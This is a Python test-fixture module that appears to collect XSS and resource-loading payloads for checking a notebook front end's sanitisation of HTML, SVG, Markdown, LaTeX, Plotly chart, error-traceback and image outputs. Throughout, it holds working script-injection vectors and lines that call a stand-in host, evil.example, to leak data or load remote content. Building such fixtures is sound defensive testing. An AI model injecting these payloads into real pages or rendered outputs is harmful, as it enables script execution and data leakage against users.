"""Outputs that would run or load something in a front end, at least thirty of each kind that it draws."""

from __future__ import annotations

import base64
from typing import Any, Final

EVIL: Final = "evil.example"
"""Part of every address, in a name of its own each, so that a look-up says whose it is."""


def _numbered(forms: list[str]) -> list[str]:
    return [form.replace("//evil", f"//n{number}.{EVIL}") for number, form in enumerate(forms)]


HTML: Final = _numbered(
    [
        "<script>alert(1)</script>",
        "<SCRIPT src=//evil/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src='https://evil/?leak'>",
        "<img srcset='https://evil/ 1x'>",
        "<picture><source srcset='https://evil/ 1x'><img src='data:image/png;base64,AAAA'></picture>",
        '<img src="data:text/html;base64,AAAA" onerror=alert(1)>',
        "<b style='background-color: red' onmouseover=alert(1) autofocus tabindex=1 onfocus=alert(1)>x</b>",
        "<a<style></style> href=x onclick=alert(1)>",
        "<div style='background: url(https://evil/)'>x</div>",
        "<div style='background-color: red; background: u&#114;l(https://evil/)'>x</div>",
        "<div style='background-image: image-set(\"https://evil/\" 1x)'>x</div>",
        "<div style='background: \\75rl(https://evil/)'>x</div>",
        "<div style='border-image: url(https://evil/); cursor: url(//evil/), auto'>x</div>",
        "<div style='--x: url(https://evil/); background: var(--x)'>x</div>",
        "<style>@import 'https://evil/x.css';</style>",
        "<style>@\\69mport 'https://evil/x.css'; b { background: u\\72l(https://evil/) }</style><b>x</b>",
        "<style>@font-face { font-family: f; src: url(https://evil/f) } b { font-family: f }</style><b>x</b>",
        "<style>b {}</style x><img src=x onerror=alert(1)>",
        "<style><!--</style><img src=x onerror=alert(1)>-->",
        "<style>.dataframe { background: url(https://evil/) }</style><table class=dataframe><td>x</table>",
        "<style></style><link rel=dns-prefetch href=//evil>",
        "<style></style><link rel=preconnect href=//evil>",
        "<link rel=dns-prefetch href=//evil>",
        "<link rel=prefetch href=https://evil/>",
        "<link rel=stylesheet href=https://evil/x.css>",
        "<svg onload=alert(1)></svg>",
        "<svg><image href=https://evil/ /><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
        "<iframe src=https://evil/></iframe>",
        "<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>",
        "<style></style><iframe src=https://evil/></iframe>",
        "<meta http-equiv=refresh content='0;url=https://evil/'>",
        "<style></style><meta http-equiv=refresh content='0;url=https://evil/'>",
        "<base href=https://evil/><img src=x>",
        "<object data=https://evil/></object><embed src=https://evil/>",
        "<video src=https://evil/ poster=https://evil/p autoplay onerror=alert(1)></video><audio src=https://evil/ autoplay>",
        "<form action=https://evil/><input autofocus onfocus=alert(1)><input type=image src=https://evil/></form>",
        "<body background=https://evil/ onload=alert(1)><table background=https://evil/><td background=https://evil/>x</table>",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        '<b title="a"onclick="alert(1)">x</b><details open ontoggle=alert(1)>x</details>',
        "<b/onclick=alert(1)>x</b><marquee onstart=alert(1)>x</marquee>",
        "<textarea></textarea><script>alert(1)</script>",
        "<template shadowrootmode=open><script>alert(1)</script><img src=https://evil/></template>",
        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    ]
)

_SVG: Final = [
    "<script>alert(1)</script>",
    "<script href='https://evil/x.js'/>",
    "<svg:script xmlns:svg='http://www.w3.org/2000/svg'>alert(1)</svg:script>",
    "<g onload='alert(1)'/>",
    "<g/onload='alert(1)'/>",
    "<image href='https://evil/'/>",
    "<image xlink:href='//evil/?leak' onerror='alert(1)'/>",
    "<image href='x' onerror='alert(1)'/>",
    "<use href='https://evil/x.svg#a'/>",
    "<use href='data:image/svg+xml,&lt;svg id=&quot;a&quot; onload=&quot;alert(1)&quot;/&gt;#a'/>",
    "<style>@import 'https://evil/x.css';</style>",
    "<style>@\\69mport 'https://evil/x.css';</style>",
    "<style>@font-face { font-family: f; src: url(https://evil/f) } text { font-family: f }</style><text>x</text>",
    "<rect width='9' height='9' style='fill: url(https://evil/#a)'/>",
    "<rect width='9' height='9' style='fill: u\\72l(https://evil/#a)'/>",
    "<rect width='9' height='9' fill='url(https://evil/#a)'/>",
    "<rect width='9' height='9' style='mask-image: image-set(\"https://evil/\" 1x)'/>",
    "<rect width='9' height='9' filter='url(https://evil/#a)' clip-path='url(//evil/#a)' mask='url(//evil/#b)'/>",
    "<filter id='f'><feImage href='https://evil/'/></filter><rect width='9' height='9' filter='url(#f)'/>",
    "<foreignObject width='9' height='9'><img xmlns='http://www.w3.org/1999/xhtml' src='https://evil/' onerror='alert(1)'/></foreignObject>",
    "<foreignObject width='9' height='9'><iframe xmlns='http://www.w3.org/1999/xhtml' src='https://evil/'/></foreignObject>",
    "<foreignObject width='9' height='9'><link xmlns='http://www.w3.org/1999/xhtml' rel='dns-prefetch' href='//evil'/></foreignObject>",
    "<foreignObject width='9' height='9'><meta xmlns='http://www.w3.org/1999/xhtml' http-equiv='refresh' content='0;url=https://evil/'/></foreignObject>",
    "<foreignObject width='9' height='9'><video xmlns='http://www.w3.org/1999/xhtml' src='https://evil/' autoplay=''/></foreignObject>",
    "<image><animate attributeName='href' values='https://evil/' dur='1s'/></image>",
    "<a><animate attributeName='href' values='javascript:alert(1)'/><text y='9'>x</text></a>",
    "<image><set attributeName='href' to='https://evil/'/></image>",
    "<animate onbegin='alert(1)' attributeName='x' dur='1s'/>",
    "<set attributeName='onmouseover' to='alert(1)'/>",
    "<handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>alert(1)</handler>",
    "<cursor href='https://evil/c'/><text style='cursor: url(https://evil/)'>x</text>",
    "<image href='data:image/svg+xml,&lt;svg xmlns=&quot;http://www.w3.org/2000/svg&quot;&gt;&lt;image href=&quot;https://evil/&quot;/&gt;&lt;/svg&gt;'/>",
]
SVG: Final = _numbered(
    [
        f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='9' height='9'>{each}</svg>"
        for each in _SVG
    ]
    + [
        "<?xml-stylesheet href='https://evil/x.css'?><svg xmlns='http://www.w3.org/2000/svg'/>",
        "<!DOCTYPE svg SYSTEM 'https://evil/x.dtd'><svg xmlns='http://www.w3.org/2000/svg'/>",
        "<!DOCTYPE svg [<!ENTITY b SYSTEM 'https://evil/'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&b;</text></svg>",
        '"><script>alert(1)</script><svg onload=alert(1)>',
    ]
)

MARKDOWN: Final = _numbered(
    [
        "![x](https://evil/?leak)",
        "\\![x](https://evil/?leak)",
        "![x][r]\n\n[r]: https://evil/",
        "![a\\](data:image/ ](https://evil/x)",
        "![x](//evil/x)",
        "![x](<https://evil/a b>)",
        "![x](data:text/html,x 'a' )",
        "[![x](https://evil/)](https://example.com)",
        "| a |\n|---|\n| ![x](https://evil/) |",
        "- > ![x](https://evil/)",
        "# ![x](https://evil/)",
        "x[^1]\n\n[^1]: ![x](https://evil/)",
        "<img src=https://evil/ onerror=alert(1)>",
        "a <img src=x onerror=alert(1)> b",
        "<script>alert(1)</script>",
        "<div>\n\n<script>alert(1)</script>\n\n</div>",
        "<style>@import 'https://evil/';</style>",
        "<link rel=dns-prefetch href=//evil>",
        "<svg onload=alert(1)>",
        "<details open ontoggle=alert(1)>\n\nx\n\n</details>",
        "```html\n</code></pre><img src=x onerror=alert(1)>\n```",
        '```"><img src=x onerror=alert(1)>\nx\n```',
        "`</code><img src=x onerror=alert(1)>`",
        '[x](https://example.com/"onfocus="alert(1)"autofocus="x)',
        '[x](https://example.com "\\"><img src=x onerror=alert(1)>")',
        '![x](data:image/png;base64,AAAA"onerror="alert\\(1\\))',
        "<https://example.com/&quot;onfocus=&quot;alert(1)&quot;autofocus>",
        "```mermaid\n%%{init: {'themeCSS': '@import \"https://evil/\"'}}%%\ngraph TD; A[x]\n```",
        "```mermaid\n%%{init: {'fontFamily': 'x; background: url(https://evil/)'}}%%\ngraph TD; A\n```",
        "```mermaid\nflowchart TD\nA@{ img: 'https://evil/', label: '<img src=x onerror=alert(1)>' }\n```",
        "$\\href{javascript:alert(1)}{x}$",
        "$<img src=x onerror=alert(1)>$ and $$<img src=https://evil/>$$",
        "$\\style{background: url(https://evil/)}{x}$",
        "&lt;img src=x onerror=alert(1)&gt;",
        *(f'```mermaid\nflowchart TD\nA["{each}"]\n```' for each in HTML),
    ]
)

LATEX: Final = _numbered(
    [
        "$\\href{javascript:alert(1)}{x}$",
        "$\\url{https://evil/}$",
        "$\\style{background: url(https://evil/)}{x}$",
        "$\\class{jp-Dialog}{x}$",
        "$\\cssId{x}{y}$",
        "$\\data{a=b}{x}$",
        "$\\htmlStyle{background: url(https://evil/)}{x}$",
        "$\\htmlData{a=b}{x}$",
        "$\\require{html}$",
        "$\\includegraphics{https://evil/}$",
        "$\\mmlToken{mi}[href='javascript:alert(1)' style='background: url(https://evil/)']{x}$",
        "\\mmlToken{mi}{x}",
        "$\\bbox[background-image:url(https://evil/)]{x}$",
        "$\\newcommand{\\h}{\\href}\\h{javascript:alert(1)}{x}$",
        "$\\renewcommand\\x{\\href}$",
        "$\\def\\h{\\href}\\h{javascript:alert(1)}{x}$",
        "$\\let\\h\\href\\h{javascript:alert(1)}{x}$",
        "$\\csname href\\endcsname{javascript:alert(1)}{x}$",
        "$\\unicode[url(https://evil/)]{65}$",
        "$\\color{url(https://evil/)}x$",
        "$\\textcolor{red;background:url(https://evil/)}x$",
        "$\\colorbox{url(https://evil/)}x$",
        "$\\text{$\\href{javascript:alert(1)}{x}$}$",
        "$\\DeclareMathOperator{\\h}{\\href}$",
        "<img src=x onerror=alert(1)>",
        "$x$ <script>alert(1)</script>",
        "$a < b <img src=https://evil/ >$",
        "![x](https://evil/)",
        "![x][r]\n\n[r]: https://evil/",
        "[x](https://evil/ '<img src=x onerror=alert(1)>')",
        "```mermaid\ngraph TD; A\n```",
        "~~~mermaid\ngraph TD; A\n~~~",
        "<https://evil/>",
        "\\begin{equation}\\href{javascript:alert(1)}{x}\\end{equation}",
    ]
)


def _chart(**parts: Any) -> dict[str, Any]:
    return {"data": [{"type": "bar", "y": [1]}], "layout": {}} | parts


CHARTS: Final[list[dict[str, Any]]] = [
    _chart(layout={"images": [{"source": "https://evil.example/"}]}),
    _chart(layout={"images": [{"source": "//evil.example/"}]}),
    _chart(layout={"template": {"layout": {"images": [{"source": "\thttps:evil.example"}]}}}),
    _chart(layout={"map": {"style": "https://evil.example/style.json"}}),
    _chart(
        layout={
            "map": {
                "style": {"version": 8, "sources": {"a": {"type": "raster", "tiles": ["https://evil.example/{x}"]}}}
            }
        }
    ),
    _chart(
        layout={
            "map": {"style": {"version": 8, "sprite": "https://evil.example/s", "glyphs": "https://evil.example/g"}}
        }
    ),
    _chart(layout={"map2": {"layers": [{"source": ["https://evil.example/{x}"]}]}}),
    _chart(layout={"mapbox": {"layers": [{"source": "https://evil.example/"}], "accesstoken": "x"}}),
    _chart(layout={"geo": {"visible": True}}),
    _chart(data=[{"type": "choropleth", "geojson": "https://evil.example/"}]),
    _chart(data=[{"type": "choroplethmap", "geojson": "https://evil.example/"}]),
    _chart(data=[{"type": "choroplethmapbox", "geojson": "https://evil.example/"}]),
    _chart(data=[{"type": "scattergeo", "geojson": "https://evil.example/"}]),
    _chart(data=[{"type": "scattermap", "lat": [1], "lon": [1]}]),
    _chart(data=[{"type": "densitymap", "lat": [1], "lon": [1]}]),
    _chart(data=[{"type": "image", "source": "https://evil.example/"}]),
    _chart(data=[{"type": ["image"], "source": "https://evil.example/"}]),
    _chart(frames=[{"data": [{"type": "choropleth", "geojson": "https://evil.example/"}]}]),
    _chart(frames=[{"layout": {"images": [{"source": "https://evil.example/"}]}}]),
    _chart(layout={"template": {"data": {"image": [{"source": "https://evil.example/"}]}}}),
    _chart(
        layout={
            "updatemenus": [
                {"buttons": [{"method": "relayout", "args": ["images[0].source", "https://evil.example/"]}]}
            ]
        }
    ),
    _chart(
        layout={
            "updatemenus": [{"buttons": [{"method": "relayout", "args": [{"map.style": "https://evil.example/"}]}]}]
        }
    ),
    _chart(
        layout={
            "sliders": [
                {
                    "steps": [
                        {"method": "restyle", "args2": [{"geojson": ["https://evil.example/"], "type": ["choropleth"]}]}
                    ]
                }
            ]
        }
    ),
    _chart(data=[{"type": "bar", "text": "<span style='mask: url(https://evil.example/)'>x</span>"}]),
    _chart(layout={"title": {"text": "<a href='javascript:alert(1)'>x</a>"}}),
    _chart(layout={"title": "<b style='background: u\\72l(https://evil.example/)'>x</b>"}),
    _chart(layout={"title": "<img src=x onerror=alert(1)><script>alert(1)</script>"}),
    _chart(layout={"title": "$\\href{javascript:alert(1)}{x}$"}),
    _chart(layout={"title": "<style " * 800}),
    _chart(config={"plotlyServerURL": "https://evil.example/"}),
    _chart(config={"topojsonURL": "https://evil.example/"}),
    _chart(config={"mapboxAccessToken": "https://evil.example/", "showSendToCloud": True}),
    _chart(
        layout={"annotations": [{"text": "&lt;img src=x onerror=alert(1)&gt;", "hovertext": "<svg onload=alert(1)>"}]}
    ),
]

_ERROR_TEXTS: Final = _numbered(
    [
        '<a href="">x<img src=x onerror=alert(1)></a>',
        "<a href=''><img src='https://evil/'></a>",
        "<a\thref='x' onfocus=alert(1) autofocus>x</a>",
        "<\x1b[41ma href=''><\x1b[41mimg src=x onerror=alert(1)></\x1b[41ma>",
        "<\x1b[0ma href=''><img src=x onerror=alert(1)></a>",
        "<\x00a href=''><img src=x onerror=alert(1)></a>",
        "<A HREF=''><script>alert(1)</script></A>",
        "<a href=''><script>alert(1)</script></a>",
        "<a href=''><svg onload=alert(1)></a>",
        "<a href=''><iframe srcdoc='<script>parent.alert(1)</script>'></iframe></a>",
        "<a href=''><link rel=dns-prefetch href=//evil></a>",
        "<a href=''><style>@import '//evil/';</style></a>",
        "<a href=''><video src=//evil/ autoplay></video></a>",
        "<a href=''><details open ontoggle=alert(1)>x</details></a>",
        "File x' onfocus='alert(1)' autofocus tabindex='1:3\n      3 x = 1",
        "File ~/x' onfocus='alert(1)' autofocus tabindex='1:3\n      3 x = 1",
        "File /x' style='background: url(//evil/)' a=':3\n----> 3 x = 1",
        "Fi\x1b[41mle x' onfocus='alert(1)' autofocus tabindex='1:3\n      3 x = 1",
        "File \x1b[32mx' onfocus='alert(1)' autofocus tabindex='1:3\n      3 x = 1",
        "File\x1b[32m x'><img src=x onerror=alert(1)>:3\n      3 x = 1",
        "x' onfocus='alert(1)' autofocus tabindex='1 Cell In[1], line 1",
        "x'><img src=x onerror=alert(1)> Cell In[1], line 1",
        "<img src=x onerror=alert(1)> Cell In[1], line 1",
        "x' onfocus='alert(1)' autofocus a='Input \x1b[0mIn [1]",
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "</pre><script>alert(1)</script>",
        "<!--><img src=x onerror=alert(1)>",
        "<?x ><img src=x onerror=alert(1)>",
        "<</a>a href=''><img src=x onerror=alert(1)></a>",
        "<module><img src=x onerror=alert(1)></module>",
    ]
)
ERRORS: Final = [f"\x1b[31mCell In[1], line 1\x1b[39m\n----> 1 x\n{text}" for text in _ERROR_TEXTS]

PICTURES: Final = [
    '"><script>alert(1)</script>',
    '" onerror="alert(1)',
    "x' onerror='alert(1)",
    base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>").decode(),
    "AAAA,https://n0.evil.example/",
]
